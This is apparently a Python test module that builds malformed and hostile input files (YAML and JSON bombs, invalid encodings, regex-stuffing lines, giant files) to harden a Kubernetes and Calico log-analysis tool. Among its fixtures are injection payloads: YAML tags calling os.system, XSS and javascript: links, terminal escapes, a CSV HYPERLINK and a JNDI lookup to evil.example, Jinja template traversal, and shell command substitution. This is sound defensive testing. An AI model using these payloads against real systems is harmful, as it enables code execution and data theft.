"""Files made to harm whoever reads them as text: each function gives (file name, content) of one or several."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterable

Files = dict[str, bytes]
STAMP = "2026-02-12 06:20:11.402 [ERROR][62] felix/health.go 360: "


def _log(lines: Iterable[str]) -> bytes:
    return "".join(f"{STAMP}{line}\n" for line in lines).encode("utf-8", "surrogatepass")


# --- bytes ---


def line_of_a_hundred_megabytes() -> Files:
    return {"calico-node-x.log": _log(["bind: address already in use"]) + b"A" * 100_000_000 + b"\n" + _log(["end"])}


def json_line_of_twenty_megabytes() -> Files:
    item = json.dumps({"kind": "Event", "message": "x" * 200, "metadata": {"name": "e"}})
    return {"events.json": ('{"kind":"List","items":[' + ",".join([item] * 80_000) + "]}").encode()}


def binary_junk_in_every_suffix() -> Files:
    noise = random.Random(7)
    suffixes = ("log", "txt", "yaml", "json", "tgz", "zip", "gz", "html", "csv")
    return {f"junk.{suffix}": noise.randbytes(50_000) for suffix in suffixes}


def nul_bytes_in_a_log() -> Files:
    return {"nul.log": _log(["a\0b", "\0\0\0"] * 50) + bytes(4000) + _log(["end"])}


def utf_16_and_32_and_halves() -> Files:
    text = _log(["bind: address already in use"] * 40).decode()
    return {
        "le.log": text.encode("utf-16"), "be.log": b"\xfe\xff" + text.encode("utf-16-be"), "bare.log": text.encode("utf-16-le"),
        "32.log": text.encode("utf-32"), "odd.log": text.encode("utf-16")[:-1], "bom.log": b"\xff\xfe", "bom8.log": b"\xef\xbb\xbf" * 9,
    }  # fmt: skip


def text_that_is_no_unicode() -> Files:
    bad = b"\xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xff\xfe \xf4\x90\x80\x80 "
    return {"overlong.log": STAMP.encode() + bad * 500 + b"\n" + _log(["\ud800 lone", "\U0010ffff", "\ufffe"])}


def carriage_returns_and_odd_line_ends() -> Files:
    ends = ("\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\r\r\n")
    return {"ends.log": "".join(f"{STAMP}a{end}" for end in ends * 200).encode()}


def combining_characters_by_the_thousand() -> Files:
    return {"zalgo.log": _log(["e" + "\u0301\u0489" * 20_000] * 3)}


# --- YAML and JSON ---


def yaml_billion_laughs() -> Files:
    lines = ["apiVersion: v1", "kind: List", "a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    lines += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30)]
    return {"laughs.yaml": "\n".join([*lines, "items: *a29", ""]).encode()}


def yaml_merge_bomb() -> Files:
    lines = ["apiVersion: v1", "kind: Pod", "m0: &m0 {a: 1}"]
    lines += [f"m{n}: &m{n} {{<<: [{', '.join([f'*m{n - 1}'] * 9)}], k{n}: 1}}" for n in range(1, 20)]
    return {"merge.yaml": "\n".join([*lines, "metadata: *m19", ""]).encode()}


def yaml_alias_to_itself() -> Files:
    return {"self.yaml": b"apiVersion: v1\nkind: Pod\nmetadata: &m\n  name: a\n  labels: *m\nstatus: &s [*s]\n"}


def yaml_tags_that_run_commands() -> Files:
    calls = (
        '!!python/object/apply:os.system ["touch hostile-was-here"]',
        "!!python/object/new:subprocess.Popen [[touch, hostile-was-here]]",
        "!!python/name:os.system",
        "!!python/module:hostile",
        "!!binary notbase64!",
        "!!timestamp 2026-99-99",
        "!!int abc",
        "!!float x",
        "!unknown {a: 1}",
        "!!set {a, b}",
    )
    return {
        f"tag-{number}.yaml": f"apiVersion: v1\nkind: Pod\nmetadata:\n  name: {call}\n".encode()
        for number, call in enumerate(calls)
    }


def yaml_nested_in_flow_and_block() -> Files:
    head = b"apiVersion: v1\nkind: Pod\nmetadata: "
    block = "".join(" " * n + f"k{n}:\n" for n in range(1, 1500))
    return {
        "flow.yaml": head + b"[" * 100_000,
        "maps.yaml": head + b"{a: " * 50_000,
        "block.yaml": head + b"\n" + block.encode(),
        "dashes.yaml": head + b"\n  " + b"- " * 50_000 + b"x\n",
        "quest.yaml": head + b"\n  " + b"? " * 50_000 + b"x\n",
    }


def yaml_of_ten_thousand_documents() -> Files:
    return {"docs.yaml": b"---\napiVersion: v1\nkind: Pod\nmetadata: {name: a}\n" * 10_000}


def yaml_keys_that_cannot_be_keys() -> Files:
    return {
        "keys.yaml": b"apiVersion: v1\nkind: Pod\n? [a, {b: c}]\n: 1\n? {a: b}\n: 2\n~: 3\n1.5: 4\ntrue: 5\n",
        "types.yaml": b"apiVersion: [v1]\nkind: {a: b}\nmetadata: 7\nspec: [1, 2]\nstatus: text\nitems: 5\n",
        "lists.yaml": b"apiVersion: v1\nkind: PodList\nitems: {a: b}\nmetadata: []\n",
    }


def json_nested_a_million_deep() -> Files:
    head = b'{"apiVersion":"v1","kind":"Pod","metadata":'
    return {
        "list.json": head + b"[" * 1_000_000,
        "object.json": head + b'{"a":' * 300_000,
        "closed.json": head + b"[" * 9_000 + b"]" * 9_000 + b"}",
    }


def json_numbers_beyond_measure() -> Files:
    numbers = ("9" * 100_000, "-" + "9" * 5000, "1e999999999", "NaN", "-Infinity", "0." + "0" * 5000 + "1")
    items = [
        f'{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"p","generation":{n}}},"spec":{{"priority":{n}}},'
        f'"status":{{"containerStatuses":[{{"name":"calico-node","restartCount":{n},'
        f'"lastState":{{"terminated":{{"exitCode":{n}}}}}}}]}}}}'
        for n in numbers
    ]
    return {f"number-{n}.json": item.encode() for n, item in enumerate(items)}


def json_of_wrong_types_everywhere() -> Files:
    wrong = (None, 7, "text", [], [[]], {}, True, [None], {"a": None}, -1.5)
    texts: Files = {}
    for number, value in enumerate(wrong):
        for kind in ("Pod", "Node", "Event", "DaemonSet", "BGPPeer", "IPPool", "FelixConfiguration", "NetworkPolicy"):
            made = {"apiVersion": "v1", "kind": kind, "metadata": value, "spec": value, "status": value, "message": value,
                    "involvedObject": value, "count": value, "lastTimestamp": value, "items": value}  # fmt: skip
            deep = {"apiVersion": "v1", "kind": kind, "metadata": {"name": value, "labels": value, "annotations": value},
                    "spec": {"containers": value, "nodeName": value, "taints": value, "peerIP": value, "cidr": value},
                    "status": {"conditions": value, "containerStatuses": value, "addresses": value}}  # fmt: skip
            texts[f"{kind}-{number}.json"] = json.dumps({"kind": "List", "items": [made, deep]}).encode()
    return texts


def json_with_keys_twice_and_cut_off() -> Files:
    return {
        "twice.json": b'{"kind":"Pod","kind":"Node","apiVersion":"v1","metadata":{"name":"a"},"metadata":null}',
        "cut.json": b'{"apiVersion":"v1","kind":"List","items":[{"kind":"Pod","metadata":{"name":"a"',
        "surrogate.json": b'{"apiVersion":"v1","kind":"Pod","metadata":{"name":"\\ud800","labels":{"\\udfff":"\\u0000"}}}',
    }


# --- inputs on which careless patterns take for ever ---

HEADS = {
    "calico": STAMP,
    "klog": "E0212 06:20:11.402000       1 reflector.go:150] ",
    "cri": "2026-02-12T06:20:11.402000000Z stderr F ",
    "docker": '{"log":"',
    "journal": "Feb 12 06:20:11 host kubelet[123]: ",
    "bird": "bird: ",
    "json": '{"level":"error","ts":"',
    "logfmt": 'time="2026-02-12T06:20:11Z" level=error msg="',
    "bare": "",
}
STUFFING = (
    " ", "a", "=", "[", "]", "(", '"', "'", "\\", "/", ":", ".", "-", ",", "0", "1.", "10.0.0.", "::", "a=", "a: ", 'a="', "a.a",
    "a-", "a@", "a b ", "\t", "# ", "eyJ", "eyJh.", "key:", "password=", "token: ", "Bearer ", "-----BEGIN ", "-----BEGIN RSA PRIVATE KEY-----",
    "https://", "https://a:", "://a@", "(x", "{", "{{", "%", "error ", "failed: ", "dial tcp ", "connect: ", "i/o timeout ", "x509: ",
    "2026-02-12T06:20:11Z ", "Feb 12 ", "[62]", "goroutine 1 [", "panic: ", "<", "&lt;", "|", "*", "\u0301", "\u00a0", "\x1b[", "AKIA",
    "secretKeyRef: ", "data:", "ab" * 16, "==", "a,b,", "Warning  ", "  (x2 over 3m)",
)  # fmt: skip


def _stuffed(head: str, size: int = 8_000) -> list[str]:
    return [f"{head}{(word * (size // len(word)))}{end}" for word in STUFFING for end in ("", "!")]


def _stuffed_logs(name: str) -> Callable[[], Files]:
    def make() -> Files:
        good = f"{HEADS[name]}Applying dataplane updates\n" * 30
        return {f"calico-node-{name}.log": (good + "\n".join(_stuffed(HEADS[name])) + "\n").encode()}

    make.__name__ = f"endless_patterns_in_{name}_lines"
    return make


TEXTS_WITH_FIELDS = {
    "describe_pod": "Name:         calico-node-abcde\nNamespace:    kube-system\nNode:         10.0.0.1/10.0.0.1\nLabels:       k8s-app=calico-node\nStatus:       Running\nContainers:\n  calico-node:\n    State:  Running\nEvents:\n  Type     Reason     Age                From     Message\n  ----     ------     ----               ----     -------\n",
    "describe_node": "Name:               10.0.0.1\nRoles:              <none>\nConditions:\n  Type   Status  LastHeartbeatTime   LastTransitionTime  Reason  Message\n  ----   ------  -----------------   ------------------  ------  -------\n",
    "get_pods": "NAMESPACE     NAME                READY   STATUS    RESTARTS   AGE\nkube-system   calico-node-abcde   1/1     Running   0          1d\n",
    "get_events": "LAST SEEN   TYPE      REASON   OBJECT     MESSAGE\n5m          Warning   Failed   pod/x      text\n",
    "birdcl": "BIRD v0.3.3+birdv1.6.8 ready.\nname     proto    table    state  since       info\nMesh_10_0_0_2 BGP      master   up     06:20:11    Established\n",
    "node_status": "Calico process is running.\n\nIPv4 BGP status\n+--------------+-------------------+-------+----------+-------------+\n| PEER ADDRESS |     PEER TYPE     | STATE |  SINCE   |    INFO     |\n+--------------+-------------------+-------+----------+-------------+\n",
    "iptables": "# Generated by iptables-save v1.8.4\n*filter\n:INPUT ACCEPT [0:0]\n:cali-INPUT - [0:0]\n-A INPUT -j cali-INPUT\n",
    "ip_route": "default via 10.0.0.1 dev eth0\n10.1.0.0/26 via 10.0.0.2 dev tunl0 proto bird onlink\n",
    "ip_link": "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN mode DEFAULT group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n",
    "ipam": "+----------+--------------+-----------+------------+--------------+\n| GROUPING |     CIDR     | IPS TOTAL | IPS IN USE |   IPS FREE   |\n+----------+--------------+-----------+------------+--------------+\n",
    "ibmcloud": "ID   Public IP   Private IP   Flavor   State    Status   Zone    Version\nkube-x-w1   1.2.3.4   10.0.0.1   b3c.4x16   normal   Ready    dal10   1.29.1\n",
    "yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  annotations:\n    note: x\n    ",
    "session": "$ kubectl get pods -A\nNAME   READY   STATUS    RESTARTS   AGE\na      1/1     Running   0          1d\n$ ",
}  # fmt: skip


def _stuffed_text(name: str) -> Callable[[], Files]:
    def make() -> Files:
        head = TEXTS_WITH_FIELDS[name]
        last = head.rstrip("\n").rpartition("\n")[2]
        indent = last[: len(last) - len(last.lstrip())]
        return {f"{name}.txt": (head + "\n".join(_stuffed(indent)) + "\n").encode()}

    make.__name__ = f"endless_patterns_in_{name}"
    return make


def redaction_of_endless_secrets() -> Files:
    """What looks like the beginning of a secret, over and over, and never ends."""
    begins = ("eyJ" + "a" * 30 + ".", "-----BEGIN PRIVATE KEY-----\n", "password: '", "Authorization: Basic ", "https://user:",
              "client-key-data: ", "AKIA" + "A" * 15, "kind: Secret\ndata:\n  a: ", "token=", "apikey\": \"", "ghp_")  # fmt: skip
    return {f"secret-{number}.log": STAMP.encode() + (begin * 20_000).encode() for number, begin in enumerate(begins)}


# --- injection: what is markup, a formula or a command somewhere ---

ATTACKS = {
    "html": "<script>hostile()</script><img src=x onerror=hostile()>\"'></pre></title><!--",
    "markdown": "![i](http://evil.example/i.png) [l](javascript:hostile()) ``` ~~~ </details> | a | @octocat #12",
    "terminal": "\x1b[2J\x1b]0;hostile\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2J [bold]x[/bold]",
    "csv": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(10**9) %}{% endfor %}{# x #}",
    "format": "%s%s%n{0.__class__}${jndi:ldap://evil.example/a}`touch hostile-was-here`$(touch hostile-was-here)",
}  # fmt: skip


def _injection(place: str) -> Callable[[], Files]:
    attack = ATTACKS[place]

    def make() -> Files:
        name = attack.replace("/", "_")[:120]
        pod = (
            TEXTS_WITH_FIELDS["describe_pod"].replace("calico-node-abcde", attack).replace("10.0.0.1/10.0.0.1", attack)
        )
        events = f"  Warning  Unhealthy  5m (x9 over 1h)  kubelet  Readiness probe failed: {attack}\n" * 3
        return {
            f"{name}.log": _log([f"{attack} bind: address already in use", f"frobnicated {attack}"] * 5),
            "pod.txt": (pod + events).encode(),
            "nodes.txt": f"NAME   STATUS   ROLES   AGE   VERSION\n{attack.replace(' ', '_')}   NotReady   <none>   1d   v1.29\n".encode(),
        }

    make.__name__ = f"injection_of_{place}"
    return make


# --- masses, and clocks ---


def a_hundred_thousand_events() -> Files:
    row = (
        "  Warning  Unhealthy  {}s (x{} over 2h)  kubelet  Readiness probe failed: calico/node is not ready: BIRD {}\n"
    )
    lines = (row.format(number % 5000, number, number % 1000) for number in range(100_000))
    return {"pod.txt": (TEXTS_WITH_FIELDS["describe_pod"] + "".join(lines)).encode()}


def fifty_thousand_conditions() -> Files:
    row = "  Ready{}   False  Mon, 12 Feb 2026 06:20:11 +0000  Mon, 12 Feb 2026 06:20:11 +0000  KubeletNotReady  down\n"
    return {"node.txt": (TEXTS_WITH_FIELDS["describe_node"] + "".join(map(row.format, range(50_000)))).encode()}


def ten_thousand_pods_on_as_many_nodes() -> Files:
    head = "NAMESPACE     NAME    READY   STATUS    RESTARTS   AGE   IP   NODE   NOMINATED NODE   READINESS GATES\n"
    row = "kube-system   calico-node-{0:05x}   0/1   CrashLoopBackOff   9   1d   10.0.0.1   node{0}   <none>   <none>\n"
    return {"pods.txt": (head + "".join(map(row.format, range(10_000)))).encode()}


def a_hundred_thousand_distinct_log_lines() -> Files:
    noise = random.Random(3)
    lines = (f"{STAMP}{noise.getrandbits(64):x} odd failure {noise.getrandbits(32):x}\n" for _ in range(100_000))
    return {"calico-node-q.log": "".join(lines).encode()}


def two_thousand_small_files() -> Files:
    return {f"d{number % 50}/{number}.log": _log([f"{number} bind: address already in use"]) for number in range(2000)}


def clocks_that_show_nonsense() -> Files:
    times = ("9999-12-31 23:59:59.999", "0001-01-01 00:00:00.000", "0000-00-00 00:00:00.000", "2026-02-30 25:61:61.000",
             "2026-12-31 23:59:60.000", "1677-01-01 00:00:00.000", "2262-04-12 00:00:00.000", "-2026-02-12 06:20:11.402",
             "99999-02-12 06:20:11.402", "1969-12-31 23:59:59.999")  # fmt: skip
    zones = (
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-23:59",
        "2026-02-12T06:20:11+99:99",
    )
    return {
        "times.log": "".join(f"{time} [ERROR][62] felix/health.go 360: bind: in use\n" for time in times * 5).encode(),
        "zones.log": "".join(f"{zone} stderr F {STAMP}x\n" for zone in zones * 5).encode(),
        "epochs.log": "".join(f'{{"level":"error","ts":{t},"msg":"x"}}\n' for t in ("1e308", "-1e308", "9" * 400, "NaN", "-1")).encode(),
        "pod.yaml": "\n".join(["apiVersion: v1", "kind: List", "items:", *(
            f"- {{apiVersion: v1, kind: Pod, metadata: {{name: p{n}, creationTimestamp: '{zone}'}}}}" for n, zone in enumerate(zones))]).encode(),
    }  # fmt: skip


def ages_that_are_negative_or_endless() -> Files:
    ages = (
        "-5m",
        "99999999999d",
        "1" * 400 + "d",
        "<invalid>",
        "-9223372036854775808s",
        "0s",
        "1y2y3y",
        "5m5m5m",
        "\u0665m",
        "1e9d",
    )
    rows = "".join(
        f"  Warning  Unhealthy  {age} (x{'9' * 30} over {age})  kubelet  Readiness probe failed\n" for age in ages
    )
    pods = "".join(
        f"kube-system   calico-node-{n}   1/1   Running   {'9' * 50} ({age} ago)   {age}\n"
        for n, age in enumerate(ages)
    )
    return {
        "pod.txt": (TEXTS_WITH_FIELDS["describe_pod"] + rows).encode(),
        "pods.txt": (TEXTS_WITH_FIELDS["get_pods"] + pods).encode(),
    }


def numbers_as_long_as_books() -> Files:
    long = "9" * 10_000
    pod = TEXTS_WITH_FIELDS["describe_pod"].replace(
        "State:  Running", f"State:  Running\n    Restart Count:  {long}\n    Exit Code: {long}"
    )
    return {
        "pod.txt": pod.encode(),
        "route.txt": f"default via 10.0.0.1 dev eth0 metric {long}\n10.1.0.0/{long} via 1.2.3.{long} dev tunl0 mtu {long}\n".encode(),
        "link.txt": f"{long}: eth0: <UP> mtu {long} qdisc mq state UP qlen {long}\n    link/ether 00:00:00:00:00:00\n".encode(),
        "klog.log": f"E0212 06:20:11.402000 {long} reflector.go:{long}] failed\n".encode() * 5,
        "calico.log": f"2026-02-12 06:20:11.{long} [ERROR][{long}] felix/health.go {long}: bind\n".encode() * 5,
        "birdcl.txt": (TEXTS_WITH_FIELDS["birdcl"] + f"Mesh_{long} BGP master up {long} Established {long}\n").encode(),
    }  # fmt: skip


def addresses_that_are_none() -> Files:
    rows = [f"10.0.0.{n}/{n * 99} via {n}.{n}.{n}.{n} dev cali{n} scope link" for n in range(200, 400)]
    rows += [
        "::/999 via ::1::2 dev x",
        "fe80::%eth0%eth1 dev y",
        "1.2.3.4.5 via 0x7f.1 dev z",
        "0/0 via 00000000001 dev w",
    ]
    return {"ip-route.txt": (TEXTS_WITH_FIELDS["ip_route"] + "\n".join(rows) + "\n").encode()}


def a_session_of_three_thousand_commands() -> Files:
    return {"session.txt": b"$ kubectl logs -n kube-system calico-node-abcde -c calico-node\nerror: x\n" * 3000}


def nested_quotes_of_docker_logs() -> Files:
    line = STAMP + "x"
    for _ in range(12):
        line = json.dumps({"log": line[:60_000] + "\n", "stream": "stderr", "time": "2026-02-12T06:20:11Z"})
    return {"docker.log": (line + "\n").encode() * 20}


OWN: tuple[Callable[[], Files], ...] = (
    line_of_a_hundred_megabytes, json_line_of_twenty_megabytes, binary_junk_in_every_suffix, nul_bytes_in_a_log,
    utf_16_and_32_and_halves, text_that_is_no_unicode, carriage_returns_and_odd_line_ends,
    combining_characters_by_the_thousand, yaml_billion_laughs, yaml_merge_bomb, yaml_alias_to_itself,
    yaml_tags_that_run_commands, yaml_nested_in_flow_and_block, yaml_of_ten_thousand_documents,
    yaml_keys_that_cannot_be_keys, json_nested_a_million_deep, json_numbers_beyond_measure,
    json_of_wrong_types_everywhere, json_with_keys_twice_and_cut_off, *map(_stuffed_logs, HEADS),
    *map(_stuffed_text, TEXTS_WITH_FIELDS), redaction_of_endless_secrets, *map(_injection, ATTACKS),
    a_hundred_thousand_events, fifty_thousand_conditions, ten_thousand_pods_on_as_many_nodes,
    a_hundred_thousand_distinct_log_lines, two_thousand_small_files, clocks_that_show_nonsense,
    ages_that_are_negative_or_endless, numbers_as_long_as_books, addresses_that_are_none,
    a_session_of_three_thousand_commands, nested_quotes_of_docker_logs,
)  # fmt: skip
